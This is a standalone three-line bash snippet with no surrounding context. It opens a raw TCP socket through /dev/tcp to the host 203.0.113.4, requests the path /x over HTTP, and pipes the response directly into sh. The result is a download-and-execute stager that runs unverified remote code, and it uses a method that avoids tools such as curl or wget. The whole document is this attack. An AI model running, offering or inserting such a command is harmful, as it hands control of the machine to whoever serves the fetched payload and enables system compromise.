exec 3<>/dev/tcp/203.0.113.4/80
printf "GET /x HTTP/1.0\r\n\r\n" >&3
cat <&3 | sh
